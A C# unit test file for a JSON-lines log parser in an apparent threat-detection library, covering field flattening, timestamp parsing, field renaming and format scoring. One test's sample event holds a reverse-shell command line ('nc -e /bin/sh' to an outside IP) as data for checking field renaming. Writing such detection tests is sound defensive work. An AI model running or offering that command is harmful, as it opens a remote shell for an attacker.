using Bulwark.Scanners.Detection.Events;
using Bulwark.Scanners.Detection.Parsing.Json;

namespace Bulwark.Scanners.Detection.Tests.Parsing;

public class JsonLinesFormatTests
{
    internal const string AppLine =
        "{\"@timestamp\":\"2024-03-10T09:15:02.250Z\",\"level\":\"warn\",\"host\":{\"name\":\"api-3\",\"ip\":[\"10.0.0.5\",\"fe80::1\"]},"
        + "\"user\":{\"name\":\"alice\",\"roles\":[\"admin\",\"ops\"]},\"http\":{\"status\":403,\"ok\":false},\"trace\":null,"
        + "\"items\":[{\"id\":1},{\"id\":2,\"tag\":\"x\"}],\"empty\":{},\"none\":[]}";

    private static LogEvent Parse(string line, JsonFieldMapping? mapping = null) =>
        Assert.Single(new JsonLinesFormat(mapping).Parse(NumberedLines.Of(line), "app.jsonl"));

    [Fact]
    public void Properties_are_flattened_with_dots_and_arrays_are_multi_valued()
    {
        var e = Parse(AppLine);

        Assert.Equal("json", e.Format);
        Assert.Equal("warn", e.Field("level"));
        Assert.Equal("api-3", e.Field("host.name"));
        Assert.Equal(["10.0.0.5", "fe80::1"], e.Values("host.ip"));
        Assert.Equal(["admin", "ops"], e.Values("user.roles"));
        Assert.Equal("403", e.Field("http.status"));
        Assert.Equal("false", e.Field("http.ok"));
        Assert.True(e.Fields["trace"].IsNull);
        Assert.Equal(["1", "2"], e.Values("items.id"));
        Assert.Equal("x", e.Field("items.tag"));
        Assert.False(e.Has("empty"));
        Assert.False(e.Has("none"));
    }

    [Fact]
    public void Time_and_host_come_from_the_usual_fields_by_default()
    {
        var e = Parse(AppLine);

        Assert.Equal(new DateTimeOffset(2024, 3, 10, 9, 15, 2, 250, TimeSpan.Zero), e.Time);
        Assert.Equal("api-3", e.Host);
    }

    [Fact]
    public void The_mapping_renames_fields_and_names_the_time_and_host_fields()
    {
        var mapping = new JsonFieldMapping
        {
            Renames = new Dictionary<string, string> { ["user.name"] = "User", ["proc.cmd"] = "CommandLine" },
            TimeField = "ts_ms",
            HostField = "node",
        };

        var e = Parse("{\"ts_ms\":1710062102250,\"node\":\"n7\",\"user\":{\"name\":\"bob\"},\"proc\":{\"cmd\":\"nc -e /bin/sh 1.2.3.4 9\"}}", mapping);

        Assert.Equal(new DateTimeOffset(2024, 3, 10, 9, 15, 2, 250, TimeSpan.Zero), e.Time);
        Assert.Equal("n7", e.Host);
        Assert.Equal("bob", e.Field("User"));
        Assert.Equal("nc -e /bin/sh 1.2.3.4 9", e.Field("CommandLine"));
        Assert.False(e.Has("user.name"));
    }

    [Theory]
    [InlineData("1710062102", 0)]
    [InlineData("1710062102.25", 250)]
    [InlineData("1710062102250000", 250)]
    [InlineData("1710062102250000000", 250)]
    [InlineData("\"2024-03-10T10:15:02.25+01:00\"", 250)]
    [InlineData("\"2024-03-10 09:15:02.25\"", 250)]
    public void Times_are_read_as_text_or_epoch_numbers_of_any_unit(string value, int millis)
    {
        var e = Parse($"{{\"time\":{value}}}");

        Assert.Equal(new DateTimeOffset(2024, 3, 10, 9, 15, 2, millis, TimeSpan.Zero), e.Time!.Value.ToUniversalTime());
    }

    [Fact]
    public void An_unreadable_time_is_no_time()
    {
        Assert.Null(Parse("{\"time\":\"yesterday-ish\"}").Time);
    }

    [Theory]
    [InlineData("[{\"a\":1}]")]
    [InlineData("{\"a\":1")]
    [InlineData("\"a\"")]
    [InlineData("not json")]
    public void A_line_that_is_not_a_json_object_is_raw(string line) => Assert.Equal("raw", Parse(line).Format);

    [Fact]
    public void Json_lines_score_below_journald_exports()
    {
        var format = new JsonLinesFormat();

        Assert.Equal(0.6, format.Score([AppLine, " {\"a\":1} "], "app.log"), 3);
        Assert.Equal(0.3, format.Score([AppLine, "text"], "app.log"), 3);
    }
}
